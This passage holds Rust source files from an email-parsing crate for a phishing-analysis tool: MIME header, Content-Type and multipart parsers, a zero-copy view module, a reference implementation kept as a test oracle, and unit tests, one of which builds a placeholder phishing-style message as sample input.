            .html_body("<p>h</p>")
            .attach("a.zip", "application/zip", b"PK\x03\x04")
            .build();
        let m = MimeEntity::parse(&raw).unwrap();
        // root (mixed) + alternative + text + html + zip = 5
        assert_eq!(m.walk().len(), 5);
        assert_eq!(m.leaves().len(), 3);
    }

    #[test]
    fn empty_message_defaults() {
        let raw = MessageBuilder::new().build();
        let m = MimeEntity::parse(&raw).unwrap();
        assert_eq!(m.content_type().mime(), "text/plain");
        assert_eq!(m.body_text().unwrap(), "");
    }
}

#[cfg(test)]
mod review_regressions {
    use super::*;

    #[test]
    fn empty_multipart_part_does_not_panic() {
        let raw = "Content-Type: multipart/mixed; boundary=\"bb\"\r\n\r\n--bb\r\n--bb--\r\n";
        let m = MimeEntity::parse(raw).unwrap();
        // the degenerate part parses as an empty leaf
        assert!(m.leaves().len() <= 1);
    }

    #[test]
    fn lf_message_with_crlf_blank_line_in_body() {
        let raw = "From: a@x.example\nContent-Type: text/plain\n\nfirst line\r\n\r\nsecond para";
        let m = MimeEntity::parse(raw).unwrap();
        assert_eq!(m.header("From"), Some("a@x.example"));
        assert!(m.body_text().unwrap().contains("second para"));
    }

    #[test]
    fn boundary_transport_padding_accepted() {
        // RFC 2046 §5.1.1: delimiter lines may carry trailing whitespace.
        let raw = "Content-Type: multipart/mixed; boundary=\"bb\"\r\n\r\n--bb \t\r\nContent-Type: text/plain\r\n\r\nthe part\r\n--bb-- \r\n";
        let m = MimeEntity::parse(raw).unwrap();
        assert_eq!(m.leaves().len(), 1);
        assert_eq!(m.leaves()[0].body_text().unwrap(), "the part");
    }
}
