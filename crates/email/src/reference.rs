//! Pre-zero-copy parser implementations, kept verbatim as differential
//! oracles and as the "before" arms of the `substrate_micro` benches.
//!
//! These are the owned, allocate-per-line parsers that
//! [`HeaderMap::parse`], [`ContentType::parse`] and [`MimeEntity::parse`]
//! shipped with before the span-based rewrite (see [`crate::view`]). They
//! must not be "improved": their value is bit-for-bit behavioural identity
//! with the historical implementation, which the equivalence tests in
//! `view.rs` and `tests/substrates.rs` assert against the new parsers.

use crate::codec;
use crate::content_type::ContentType;
use crate::content_type::MediaType;
use crate::header::{HeaderMap, ParseHeaderError};
use crate::message::{MimeBody, MimeEntity, ParseMessageError, MAX_DEPTH};
use std::collections::BTreeMap;

fn is_valid_field_name_byte(b: u8) -> bool {
    // RFC 5322 ftext: printable US-ASCII except ':'
    (0x21..=0x7e).contains(&b) && b != b':'
}

/// The original `HeaderMap::parse`: line-splits the block, allocating each
/// field's name and value eagerly.
pub fn parse_header_block(block: &str) -> Result<HeaderMap, ParseHeaderError> {
    let mut fields: Vec<(String, String)> = Vec::new();
    for (idx, line) in block.split("\r\n").flat_map(|l| l.split('\n')).enumerate() {
        if line.is_empty() {
            continue;
        }
        if line.starts_with(' ') || line.starts_with('\t') {
            // continuation of previous field
            match fields.last_mut() {
                Some((_, value)) => {
                    value.push(' ');
                    value.push_str(line.trim_start());
                }
                None => return Err(ParseHeaderError::LeadingContinuation),
            }
            continue;
        }
        let colon = line
            .find(':')
            .ok_or(ParseHeaderError::MissingColon { line: idx })?;
        let (name, rest) = line.split_at(colon);
        if name.is_empty() {
            return Err(ParseHeaderError::MissingColon { line: idx });
        }
        if let Some(&bad) = name
            .bytes()
            .collect::<Vec<_>>()
            .iter()
            .find(|b| !is_valid_field_name_byte(**b))
        {
            return Err(ParseHeaderError::InvalidFieldName { line: idx, byte: bad });
        }
        fields.push((name.to_string(), rest[1..].trim().to_string()));
    }
    Ok(fields.into_iter().collect())
}

/// The original `ContentType::parse`: eager lowercasing and parameter-map
/// construction.
pub fn parse_content_type(value: &str) -> ContentType {
    let mut parts = value.split(';');
    let mime = parts.next().unwrap_or("").trim();
    let (top, sub) = match mime.split_once('/') {
        Some((t, s)) if !t.is_empty() && !s.is_empty() => {
            (t.trim().to_ascii_lowercase(), s.trim().to_ascii_lowercase())
        }
        _ => ("text".to_string(), "plain".to_string()),
    };
    let mut params = BTreeMap::new();
    for p in parts {
        if let Some((k, v)) = p.split_once('=') {
            let key = k.trim().to_ascii_lowercase();
            let val = v.trim().trim_matches('"').to_string();
            if !key.is_empty() {
                params.insert(key, val);
            }
        }
    }
    ContentType { top, sub, params }
}

/// The original header/body split (double substring search).
pub fn split_header_body(raw: &str) -> (&str, &str) {
    let crlf = raw.find("\r\n\r\n").map(|p| (p, 4));
    let lf = raw.find("\n\n").map(|p| (p, 2));
    let best = match (crlf, lf) {
        (Some(a), Some(b)) => Some(if a.0 <= b.0 { a } else { b }),
        (a, b) => a.or(b),
    };
    match best {
        Some((pos, len)) => (&raw[..pos], &raw[pos + len..]),
        None => (raw, ""),
    }
}

/// The original multipart splitter: builds the `--boundary` delimiter
/// strings per entity and compares line-by-line.
pub fn split_multipart<'a>(body: &'a str, boundary: &str) -> Vec<&'a str> {
    let delim = format!("--{boundary}");
    let close = format!("--{boundary}--");
    let mut parts = Vec::new();
    let mut cursor = 0usize;
    let mut in_part: Option<usize> = None;
    // Walk line starts to find delimiter lines exactly.
    let bytes = body.as_bytes();
    while cursor <= body.len() {
        let line_end = body[cursor..]
            .find('\n')
            .map(|p| cursor + p)
            .unwrap_or(body.len());
        // RFC 2046 §5.1.1 allows transport padding (trailing whitespace)
        // after the boundary delimiter.
        let line = body[cursor..line_end].trim_end_matches(['\r', ' ', '\t']);
        let is_close = line == close;
        let is_delim = line == delim || is_close;
        if is_delim {
            if let Some(start) = in_part {
                let mut end = cursor;
                if end >= 1 && bytes[end - 1] == b'\n' {
                    end -= 1;
                    if end >= 1 && bytes[end - 1] == b'\r' {
                        end -= 1;
                    }
                }
                parts.push(&body[start..end.max(start)]);
            }
            in_part = if is_close { None } else { Some(line_end + 1) };
            if is_close {
                break;
            }
        }
        if line_end == body.len() {
            break;
        }
        cursor = line_end + 1;
    }
    // Unterminated final part (missing close delimiter): be lenient.
    if let Some(start) = in_part {
        if start <= body.len() {
            parts.push(body[start..].trim_end_matches(['\r', '\n']));
        }
    }
    parts
}

fn decode_transfer(body: &str, encoding: &str) -> Vec<u8> {
    match encoding.trim().to_ascii_lowercase().as_str() {
        "base64" => codec::base64_decode(body).unwrap_or_else(|_| body.as_bytes().to_vec()),
        "quoted-printable" => codec::quoted_printable_decode(body),
        _ => body.as_bytes().to_vec(),
    }
}

/// The original `MimeEntity::parse`: owned recursive descent allocating a
/// header map, content-type map, and part list per entity.
pub fn parse_message(raw: &str) -> Result<MimeEntity, ParseMessageError> {
    parse_at_depth(raw, 0)
}

fn parse_at_depth(raw: &str, depth: usize) -> Result<MimeEntity, ParseMessageError> {
    if depth > MAX_DEPTH {
        return Err(ParseMessageError::TooDeep);
    }
    let (header_block, body_text) = split_header_body(raw);
    let headers = parse_header_block(header_block)?;
    let ct = headers
        .get("Content-Type")
        .map(parse_content_type)
        .unwrap_or_default();

    let body = if ct.media_type() == MediaType::Multipart {
        let boundary = ct.boundary().ok_or(ParseMessageError::MissingBoundary)?;
        let mut children = Vec::new();
        for part in split_multipart(body_text, boundary) {
            children.push(parse_at_depth(part, depth + 1)?);
        }
        MimeBody::Multipart(children)
    } else {
        let decoded = decode_transfer(
            body_text,
            headers.get("Content-Transfer-Encoding").unwrap_or("7bit"),
        );
        MimeBody::Leaf(decoded)
    };
    Ok(MimeEntity { headers, body })
}
