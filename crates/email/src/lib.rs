#![warn(missing_docs)]

//! Email substrate: an RFC 822/2045-style message model built from scratch.
//!
//! CrawlerBox's parsing phase (paper §IV-B) "scans recursively all the parts
//! and subparts of an email message", dispatching on each part's
//! `Content-Type`. That requires a real MIME implementation: header folding,
//! `Content-Type` parameter parsing (multipart boundaries), base64 and
//! quoted-printable transfer decodings, nested `message/rfc822` parts, and a
//! builder so the corpus generator can synthesize byte-exact messages.
//!
//! The crate also models the email authentication results the paper reports
//! (§V-C1: *all* reported messages passed SPF, DKIM and DMARC).
//!
//! # Example
//!
//! ```
//! use cb_email::{MessageBuilder, MimeEntity};
//!
//! let raw = MessageBuilder::new()
//!     .from("billing@partner.example")
//!     .to("victim@corp.example")
//!     .subject("Past due balance")
//!     .text_body("Please remit payment at https://evil-site.example/pay")
//!     .build();
//! let msg = MimeEntity::parse(&raw).unwrap();
//! assert_eq!(msg.header("Subject"), Some("Past due balance"));
//! assert!(msg.body_text().unwrap().contains("evil-site"));
//! ```

pub mod address;
pub mod auth;
pub mod codec;
pub mod content_type;
pub mod header;
pub mod message;
#[doc(hidden)]
pub mod reference;
pub mod view;

pub use address::EmailAddress;
pub use auth::{AuthResults, AuthVerdict};
pub use content_type::{ContentType, MediaType};
pub use header::{HeaderMap, ParseHeaderError};
pub use message::{MessageBuilder, MimeBody, MimeEntity, ParseMessageError};
pub use view::{ContentTypeRef, EntityRef, HeaderField, HeaderIter, MimeArena, MimeView};
