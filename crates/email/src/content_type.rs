//! `Content-Type` header parsing (RFC 2045 §5).
//!
//! CrawlerBox dispatches each MIME part on its media type: "the most
//! prevalent content types are: HTML, images, Octet Stream files, EML, text,
//! PDF, and ZIP files" (§IV-B). [`MediaType`] enumerates exactly those
//! dispatch targets; [`ContentType`] carries the raw type plus parameters
//! (`boundary`, `charset`, `name`).

use std::collections::BTreeMap;
use std::fmt;

/// The parsing-phase dispatch category of a MIME part.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum MediaType {
    /// `text/html` — rendered and dynamically analyzed.
    Html,
    /// `text/plain` and other `text/*` — statically scanned for URLs.
    Text,
    /// `image/*` — scanned for URLs via OCR and for QR codes.
    Image,
    /// `application/pdf` — embedded link + per-page screenshot analysis.
    Pdf,
    /// `application/zip` — unpacked, members analyzed recursively.
    Zip,
    /// `message/rfc822` — nested email, processed recursively.
    Eml,
    /// `application/octet-stream` — sniffed by magic numbers.
    OctetStream,
    /// `multipart/*` — structural container.
    Multipart,
    /// Anything else.
    Other,
}

/// A parsed `Content-Type` value.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct ContentType {
    /// Top-level type, lowercased (e.g. `text`).
    pub top: String,
    /// Subtype, lowercased (e.g. `html`).
    pub sub: String,
    /// Parameters with lowercased names; values unquoted.
    pub params: BTreeMap<String, String>,
}

impl ContentType {
    /// Parse a `Content-Type` header value such as
    /// `multipart/mixed; boundary="xyz"`.
    ///
    /// Unparseable input degrades to `text/plain`, matching the RFC 2045
    /// default and the leniency of real mail clients.
    ///
    /// Thin materializing wrapper over
    /// [`crate::view::ContentTypeRef::parse`]; call sites that only need
    /// the media type or one parameter can use the borrowed ref directly
    /// and skip building the parameter map.
    pub fn parse(value: &str) -> ContentType {
        crate::view::ContentTypeRef::parse(value).to_content_type()
    }

    /// The default content type mandated by RFC 2045: `text/plain`.
    pub fn text_plain() -> ContentType {
        ContentType::parse("text/plain; charset=us-ascii")
    }

    /// The `boundary` parameter, required for multipart types.
    pub fn boundary(&self) -> Option<&str> {
        self.params.get("boundary").map(String::as_str)
    }

    /// The `charset` parameter, if present.
    pub fn charset(&self) -> Option<&str> {
        self.params.get("charset").map(String::as_str)
    }

    /// The full `type/subtype` string.
    pub fn mime(&self) -> String {
        format!("{}/{}", self.top, self.sub)
    }

    /// Map to the parsing-phase dispatch category.
    pub fn media_type(&self) -> MediaType {
        match (self.top.as_str(), self.sub.as_str()) {
            ("multipart", _) => MediaType::Multipart,
            ("text", "html") => MediaType::Html,
            ("text", _) => MediaType::Text,
            ("image", _) => MediaType::Image,
            ("application", "pdf") => MediaType::Pdf,
            ("application", "zip") | ("application", "x-zip-compressed") => MediaType::Zip,
            ("message", "rfc822") => MediaType::Eml,
            ("application", "octet-stream") => MediaType::OctetStream,
            _ => MediaType::Other,
        }
    }
}

impl fmt::Display for ContentType {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "{}/{}", self.top, self.sub)?;
        for (k, v) in &self.params {
            if v.contains(' ') || v.contains(';') {
                write!(f, "; {k}=\"{v}\"")?;
            } else {
                write!(f, "; {k}={v}")?;
            }
        }
        Ok(())
    }
}

impl Default for ContentType {
    fn default() -> Self {
        ContentType::text_plain()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_simple_type() {
        let ct = ContentType::parse("text/html");
        assert_eq!(ct.top, "text");
        assert_eq!(ct.sub, "html");
        assert_eq!(ct.media_type(), MediaType::Html);
    }

    #[test]
    fn parses_boundary_with_quotes() {
        let ct = ContentType::parse(r#"multipart/mixed; boundary="--=_b0undary42""#);
        assert_eq!(ct.media_type(), MediaType::Multipart);
        assert_eq!(ct.boundary(), Some("--=_b0undary42"));
    }

    #[test]
    fn case_insensitive_and_whitespace_tolerant() {
        let ct = ContentType::parse("  Application/PDF ;  Name=invoice.pdf ");
        assert_eq!(ct.media_type(), MediaType::Pdf);
        assert_eq!(ct.params.get("name").map(String::as_str), Some("invoice.pdf"));
    }

    #[test]
    fn garbage_defaults_to_text_plain() {
        assert_eq!(ContentType::parse("").media_type(), MediaType::Text);
        assert_eq!(ContentType::parse("nonsense").mime(), "text/plain");
        assert_eq!(ContentType::parse("/half").mime(), "text/plain");
    }

    #[test]
    fn dispatch_covers_paper_types() {
        for (raw, want) in [
            ("text/plain", MediaType::Text),
            ("text/rtf", MediaType::Text),
            ("image/png", MediaType::Image),
            ("application/zip", MediaType::Zip),
            ("application/x-zip-compressed", MediaType::Zip),
            ("message/rfc822", MediaType::Eml),
            ("application/octet-stream", MediaType::OctetStream),
            ("application/vnd.unknown", MediaType::Other),
        ] {
            assert_eq!(ContentType::parse(raw).media_type(), want, "{raw}");
        }
    }

    #[test]
    fn display_round_trips() {
        let ct = ContentType::parse(r#"multipart/alternative; boundary="a b"; charset=utf-8"#);
        let shown = ct.to_string();
        let back = ContentType::parse(&shown);
        assert_eq!(ct, back);
    }

    #[test]
    fn charset_accessor() {
        let ct = ContentType::parse("text/plain; charset=UTF-8");
        assert_eq!(ct.charset(), Some("UTF-8"));
    }
}
