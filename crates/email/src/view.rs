//! Zero-copy parsing views over raw message text.
//!
//! The owned parsers ([`HeaderMap::parse`](crate::HeaderMap::parse),
//! [`MimeEntity::parse`](crate::MimeEntity::parse),
//! [`ContentType::parse`](crate::ContentType::parse)) are thin
//! materializing wrappers over the borrowed primitives in this module:
//!
//! * [`HeaderIter`] walks a header block yielding [`HeaderField`]s whose
//!   name and value are spans into the block — unfolding is deferred until
//!   [`HeaderField::value`] (or [`HeaderField::append_value`], which writes
//!   into a caller-provided reusable buffer).
//! * [`ContentTypeRef`] parses a `Content-Type` value without building the
//!   parameter map; parameters are matched lazily against the raw span.
//! * [`MimeArena`] + [`MimeView`] hold a parsed MIME tree as offset spans
//!   into the raw message (headers and part bodies are byte ranges, the
//!   tree is a flat first-child/next-sibling table). The arena is reusable
//!   across messages, so steady-state parsing allocates nothing; transfer
//!   decoding is deferred to [`EntityRef::decode_body_into`].
//!
//! Every function here is behaviour-identical to the original owned
//! parsers (kept verbatim in [`crate::reference`]); the equivalence is
//! enforced by differential tests over fuzzed inputs.

use crate::codec;
use crate::content_type::{ContentType, MediaType};
use crate::header::ParseHeaderError;
use crate::message::{ParseMessageError, MAX_DEPTH};
use std::borrow::Cow;
use std::collections::BTreeMap;

/// RFC 5322 `ftext`: printable US-ASCII except `:`. Notably this excludes
/// space and tab, so a header name with trailing whitespace before the
/// colon (`"Subject : x"`) is rejected rather than folded into the name.
#[inline]
pub fn is_ftext_byte(b: u8) -> bool {
    (0x21..=0x7e).contains(&b) && b != b':'
}

/// Find the first occurrence of `needle` in `haystack[from..]`, scanning
/// eight bytes per step with a SWAR zero-byte test.
#[inline]
pub(crate) fn find_byte(haystack: &[u8], needle: u8, from: usize) -> Option<usize> {
    const LO: u64 = 0x0101_0101_0101_0101;
    const HI: u64 = 0x8080_8080_8080_8080;
    let spread = LO.wrapping_mul(needle as u64);
    let mut i = from;
    while i + 8 <= haystack.len() {
        let w = u64::from_le_bytes(haystack[i..i + 8].try_into().expect("8-byte chunk"));
        let x = w ^ spread;
        let hit = x.wrapping_sub(LO) & !x & HI;
        if hit != 0 {
            return Some(i + (hit.trailing_zeros() / 8) as usize);
        }
        i += 8;
    }
    while i < haystack.len() {
        if haystack[i] == needle {
            return Some(i);
        }
        i += 1;
    }
    None
}

/// Line walker matching the original parser's
/// `split("\r\n").flat_map(split('\n'))` semantics: `\n` terminates a line
/// and one immediately preceding `\r` is stripped; a lone `\r` stays in the
/// line. Yields `(line_start_offset, line)`.
#[derive(Clone, Copy)]
struct LineCursor<'a> {
    block: &'a str,
    pos: usize,
}

impl<'a> LineCursor<'a> {
    fn new(block: &'a str) -> LineCursor<'a> {
        LineCursor { block, pos: 0 }
    }

    fn next_line(&mut self) -> Option<(usize, &'a str)> {
        if self.pos > self.block.len() {
            return None;
        }
        let start = self.pos;
        let line = match find_byte(self.block.as_bytes(), b'\n', self.pos) {
            Some(nl) => {
                self.pos = nl + 1;
                // A `\r` is consumed only as part of a CRLF pair; the final
                // unterminated line keeps any trailing `\r` (matching the
                // `split("\r\n")`-then-`split('\n')` original).
                self.block[start..nl].strip_suffix('\r').unwrap_or(&self.block[start..nl])
            }
            None => {
                self.pos = self.block.len() + 1;
                &self.block[start..]
            }
        };
        Some((start, line))
    }
}

/// One header field as spans into the block: the raw (still folded) value
/// is kept as a first-line span plus a continuation-region span, and only
/// unfolded on demand.
#[derive(Debug, Clone, Copy)]
pub struct HeaderField<'a> {
    name: &'a str,
    /// Raw text after the `:` on the field's first line.
    first: &'a str,
    /// Span covering the field's continuation lines (empty if unfolded).
    rest: &'a str,
}

impl<'a> HeaderField<'a> {
    /// The field name (exact wire spelling; names compare
    /// case-insensitively).
    pub fn name(&self) -> &'a str {
        self.name
    }

    /// Whether the value was folded across lines on the wire.
    pub fn is_folded(&self) -> bool {
        !self.rest.is_empty()
    }

    /// The unfolded value. Borrows the block untouched when the field was
    /// not folded — the dominant case — and allocates only when folded
    /// lines must be joined.
    pub fn value(&self) -> Cow<'a, str> {
        if self.rest.is_empty() {
            return Cow::Borrowed(self.first.trim());
        }
        let mut out = String::with_capacity(self.first.len() + self.rest.len());
        self.append_value(&mut out);
        Cow::Owned(out)
    }

    /// Append the unfolded value to `out` — the zero-allocation variant for
    /// callers that reuse one scratch buffer across many fields.
    pub fn append_value(&self, out: &mut String) {
        out.push_str(self.first.trim());
        let mut lines = LineCursor::new(self.rest);
        while let Some((_, line)) = lines.next_line() {
            if line.is_empty() {
                continue;
            }
            out.push(' ');
            out.push_str(line.trim_start());
        }
    }
}

/// Streaming parser over a header block, yielding borrowed
/// [`HeaderField`]s. Allocation-free: fields reference the block.
///
/// Errors match [`HeaderMap::parse`](crate::HeaderMap::parse) exactly; on
/// the first malformed line the iterator yields `Err` (dropping any field
/// still being folded) and then fuses.
pub struct HeaderIter<'a> {
    lines: LineCursor<'a>,
    block: &'a str,
    pending: Option<Pending<'a>>,
    line_idx: usize,
    done: bool,
}

struct Pending<'a> {
    name: &'a str,
    first: &'a str,
    /// Continuation region as offsets into the block.
    rest: Option<(usize, usize)>,
}

impl<'a> Pending<'a> {
    fn into_field(self, block: &'a str) -> HeaderField<'a> {
        let rest = match self.rest {
            Some((s, e)) => &block[s..e],
            None => "",
        };
        HeaderField {
            name: self.name,
            first: self.first,
            rest,
        }
    }
}

impl<'a> HeaderIter<'a> {
    /// Iterate the fields of `block` (everything before the blank line
    /// separating headers from body).
    pub fn new(block: &'a str) -> HeaderIter<'a> {
        HeaderIter {
            lines: LineCursor::new(block),
            block,
            pending: None,
            line_idx: 0,
            done: false,
        }
    }
}

impl<'a> Iterator for HeaderIter<'a> {
    type Item = Result<HeaderField<'a>, ParseHeaderError>;

    fn next(&mut self) -> Option<Self::Item> {
        if self.done {
            return None;
        }
        loop {
            let Some((start, line)) = self.lines.next_line() else {
                self.done = true;
                return self.pending.take().map(|p| Ok(p.into_field(self.block)));
            };
            let idx = self.line_idx;
            self.line_idx += 1;
            if line.is_empty() {
                continue;
            }
            if line.starts_with(' ') || line.starts_with('\t') {
                match &mut self.pending {
                    Some(p) => {
                        let end = start + line.len();
                        p.rest = Some(match p.rest {
                            Some((s, _)) => (s, end),
                            None => (start, end),
                        });
                        continue;
                    }
                    None => {
                        self.done = true;
                        return Some(Err(ParseHeaderError::LeadingContinuation));
                    }
                }
            }
            let Some(colon) = line.find(':') else {
                self.done = true;
                return Some(Err(ParseHeaderError::MissingColon { line: idx }));
            };
            let name = &line[..colon];
            if name.is_empty() {
                self.done = true;
                return Some(Err(ParseHeaderError::MissingColon { line: idx }));
            }
            if let Some(bad) = name.bytes().find(|&b| !is_ftext_byte(b)) {
                self.done = true;
                return Some(Err(ParseHeaderError::InvalidFieldName { line: idx, byte: bad }));
            }
            let next = Pending {
                name,
                first: &line[colon + 1..],
                rest: None,
            };
            if let Some(prev) = self.pending.replace(next) {
                return Some(Ok(prev.into_field(self.block)));
            }
        }
    }
}

/// Case-insensitive lowercase that borrows when the input is already
/// lowercase.
fn lower_cow(s: &str) -> Cow<'_, str> {
    if s.bytes().any(|b| b.is_ascii_uppercase()) {
        Cow::Owned(s.to_ascii_lowercase())
    } else {
        Cow::Borrowed(s)
    }
}

/// A borrowed `Content-Type` value: the `type/subtype` pair as spans and
/// the parameter region untouched until a parameter is asked for.
#[derive(Debug, Clone, Copy)]
pub struct ContentTypeRef<'a> {
    /// Trimmed `(top, sub)` spans; `None` means the RFC 2045 `text/plain`
    /// default (unparseable or absent mime pair).
    mime: Option<(&'a str, &'a str)>,
    /// Everything after the first `;` (parameters, still raw).
    params_raw: &'a str,
}

impl<'a> ContentTypeRef<'a> {
    /// Parse a `Content-Type` header value. Never fails; garbage degrades
    /// to `text/plain` exactly like [`ContentType::parse`].
    pub fn parse(value: &'a str) -> ContentTypeRef<'a> {
        let (mime, params_raw) = match value.find(';') {
            Some(i) => (&value[..i], &value[i + 1..]),
            None => (value, ""),
        };
        let mime = mime.trim();
        let pair = match mime.split_once('/') {
            Some((t, s)) if !t.is_empty() && !s.is_empty() => Some((t.trim(), s.trim())),
            _ => None,
        };
        ContentTypeRef {
            mime: pair,
            params_raw,
        }
    }

    /// Top-level type, lowercased (borrows when already lowercase).
    pub fn top(&self) -> Cow<'a, str> {
        match self.mime {
            Some((t, _)) => lower_cow(t),
            None => Cow::Borrowed("text"),
        }
    }

    /// Subtype, lowercased (borrows when already lowercase).
    pub fn sub(&self) -> Cow<'a, str> {
        match self.mime {
            Some((_, s)) => lower_cow(s),
            None => Cow::Borrowed("plain"),
        }
    }

    /// The parsing-phase dispatch category, computed without materializing
    /// the lowercased strings.
    pub fn media_type(&self) -> MediaType {
        let (t, s) = self.mime.unwrap_or(("text", "plain"));
        let eq = |a: &str, b: &str| a.eq_ignore_ascii_case(b);
        if eq(t, "multipart") {
            MediaType::Multipart
        } else if eq(t, "text") {
            if eq(s, "html") {
                MediaType::Html
            } else {
                MediaType::Text
            }
        } else if eq(t, "image") {
            MediaType::Image
        } else if eq(t, "application") {
            if eq(s, "pdf") {
                MediaType::Pdf
            } else if eq(s, "zip") || eq(s, "x-zip-compressed") {
                MediaType::Zip
            } else if eq(s, "octet-stream") {
                MediaType::OctetStream
            } else {
                MediaType::Other
            }
        } else if eq(t, "message") && eq(s, "rfc822") {
            MediaType::Eml
        } else {
            MediaType::Other
        }
    }

    /// Parameter value for `name` (pass lowercase). Matches the owned
    /// parser's map semantics: keys compare case-insensitively, the last
    /// duplicate wins, values are trimmed and unquoted.
    pub fn param(&self, name: &str) -> Option<&'a str> {
        let mut found = None;
        for p in self.params_raw.split(';') {
            if let Some((k, v)) = p.split_once('=') {
                let key = k.trim();
                if !key.is_empty() && key.eq_ignore_ascii_case(name) {
                    found = Some(v.trim().trim_matches('"'));
                }
            }
        }
        found
    }

    /// The `boundary` parameter, required for multipart types.
    pub fn boundary(&self) -> Option<&'a str> {
        self.param("boundary")
    }

    /// Materialize the owned [`ContentType`] (the thin-wrapper path used by
    /// [`ContentType::parse`]).
    pub fn to_content_type(&self) -> ContentType {
        let mut params = BTreeMap::new();
        for p in self.params_raw.split(';') {
            if let Some((k, v)) = p.split_once('=') {
                let key = k.trim().to_ascii_lowercase();
                let val = v.trim().trim_matches('"').to_string();
                if !key.is_empty() {
                    params.insert(key, val);
                }
            }
        }
        let (top, sub) = match self.mime {
            Some((t, s)) => (t.to_ascii_lowercase(), s.to_ascii_lowercase()),
            None => ("text".to_string(), "plain".to_string()),
        };
        ContentType { top, sub, params }
    }
}

/// Split raw message text at the first blank line — whichever line-ending
/// convention produces the *earliest* split. Returns `(header_block,
/// body_text)` as borrowed spans.
pub fn split_header_body(raw: &str) -> (&str, &str) {
    let (hend, bstart) = header_body_offsets(raw);
    (&raw[..hend], &raw[bstart..])
}

/// Offset form of [`split_header_body`]: `(header_end, body_start)`.
pub(crate) fn header_body_offsets(raw: &str) -> (usize, usize) {
    let b = raw.as_bytes();
    let mut i = 0;
    while let Some(nl) = find_byte(b, b'\n', i) {
        // CRLF CRLF starting at nl-1, or LF LF starting at nl; the CRLF
        // form starts earlier when both anchor on this newline.
        if nl >= 1
            && b[nl - 1] == b'\r'
            && nl + 2 < b.len()
            && b[nl + 1] == b'\r'
            && b[nl + 2] == b'\n'
        {
            return (nl - 1, nl + 3);
        }
        if nl + 1 < b.len() && b[nl + 1] == b'\n' {
            return (nl, nl + 2);
        }
        i = nl + 1;
    }
    (raw.len(), raw.len())
}

/// Split a multipart body into part spans (offsets into `body`), appended
/// to `out`. Behaviour-identical to the original `split_multipart`,
/// without building the `--boundary` delimiter strings.
pub(crate) fn split_multipart_offsets(body: &str, boundary: &str, out: &mut Vec<(u32, u32)>) {
    let bytes = body.as_bytes();
    let bnd = boundary.as_bytes();
    let mut cursor = 0usize;
    let mut in_part: Option<usize> = None;
    while cursor <= body.len() {
        let line_end = find_byte(bytes, b'\n', cursor).unwrap_or(body.len());
        // RFC 2046 §5.1.1 allows transport padding (trailing whitespace)
        // after the boundary delimiter.
        let line = body[cursor..line_end]
            .trim_end_matches(['\r', ' ', '\t'])
            .as_bytes();
        let is_close = line.len() == bnd.len() + 4
            && line.starts_with(b"--")
            && line.ends_with(b"--")
            && &line[2..2 + bnd.len()] == bnd;
        let is_delim =
            is_close || (line.len() == bnd.len() + 2 && line.starts_with(b"--") && &line[2..] == bnd);
        if is_delim {
            if let Some(start) = in_part {
                // Part content ends just before this delimiter line
                // (excluding the CRLF that precedes it); an empty part puts
                // the delimiter immediately after the previous one, so the
                // backed-up end can precede start — clamp.
                let mut end = cursor;
                if end >= 1 && bytes[end - 1] == b'\n' {
                    end -= 1;
                    if end >= 1 && bytes[end - 1] == b'\r' {
                        end -= 1;
                    }
                }
                out.push((start as u32, end.max(start) as u32));
            }
            in_part = if is_close { None } else { Some(line_end + 1) };
            if is_close {
                break;
            }
        }
        if line_end == body.len() {
            break;
        }
        cursor = line_end + 1;
    }
    // Unterminated final part (missing close delimiter): be lenient.
    if let Some(start) = in_part {
        if start <= body.len() {
            let tail = body[start..].trim_end_matches(['\r', '\n']);
            out.push((start as u32, (start + tail.len()) as u32));
        }
    }
}

const NONE: u32 = u32::MAX;

/// One MIME tree node as offset spans into the raw message.
#[derive(Debug, Clone, Copy)]
struct RawNode {
    /// Header block byte range.
    header: (u32, u32),
    /// Raw (undecoded) body byte range.
    body: (u32, u32),
    first_child: u32,
    next_sibling: u32,
    multipart: bool,
}

/// Reusable backing storage for span-based MIME parses. Parsing into a
/// warm arena performs no allocation: the node table and the multipart
/// split scratch are reused across messages.
#[derive(Debug, Default)]
pub struct MimeArena {
    nodes: Vec<RawNode>,
    /// Multipart split scratch, used with stack discipline across the
    /// recursion (each level truncates back to its own mark).
    parts: Vec<(u32, u32)>,
}

impl MimeArena {
    /// An empty arena.
    pub fn new() -> MimeArena {
        MimeArena::default()
    }

    /// Parse `raw` into this arena, returning a borrowed view of the tree.
    ///
    /// # Errors
    ///
    /// Exactly the [`MimeEntity::parse`](crate::MimeEntity::parse) errors:
    /// malformed headers, a multipart without boundary, or nesting beyond
    /// [`MAX_DEPTH`].
    pub fn parse<'r, 'a>(&'r mut self, raw: &'a str) -> Result<MimeView<'r, 'a>, ParseMessageError> {
        self.nodes.clear();
        self.parts.clear();
        self.parse_entity(raw, 0, raw.len(), 0)?;
        Ok(MimeView { arena: self, raw })
    }

    fn parse_entity(
        &mut self,
        raw: &str,
        start: usize,
        end: usize,
        depth: usize,
    ) -> Result<u32, ParseMessageError> {
        if depth > MAX_DEPTH {
            return Err(ParseMessageError::TooDeep);
        }
        let slice = &raw[start..end];
        let (hend, bstart) = header_body_offsets(slice);
        let body_text = &slice[bstart..];

        // Walk (and thereby validate) every header line; remember the
        // first Content-Type.
        let mut ct_field: Option<HeaderField<'_>> = None;
        for field in HeaderIter::new(&slice[..hend]) {
            let field = field.map_err(ParseMessageError::Header)?;
            if ct_field.is_none() && field.name().eq_ignore_ascii_case("Content-Type") {
                ct_field = Some(field);
            }
        }

        let idx = self.nodes.len() as u32;
        self.nodes.push(RawNode {
            header: (start as u32, (start + hend) as u32),
            body: ((start + bstart) as u32, end as u32),
            first_child: NONE,
            next_sibling: NONE,
            multipart: false,
        });

        let mark = self.parts.len();
        let mut n_parts = 0usize;
        if let Some(field) = ct_field {
            let value = field.value();
            let ct = ContentTypeRef::parse(value.as_ref());
            if ct.media_type() == MediaType::Multipart {
                let boundary = ct.boundary().ok_or(ParseMessageError::MissingBoundary)?;
                split_multipart_offsets(body_text, boundary, &mut self.parts);
                self.nodes[idx as usize].multipart = true;
                n_parts = self.parts.len() - mark;
            }
        }

        let mut prev = NONE;
        for k in 0..n_parts {
            let (ps, pe) = self.parts[mark + k];
            let child = self.parse_entity(
                raw,
                start + bstart + ps as usize,
                start + bstart + pe as usize,
                depth + 1,
            )?;
            if prev == NONE {
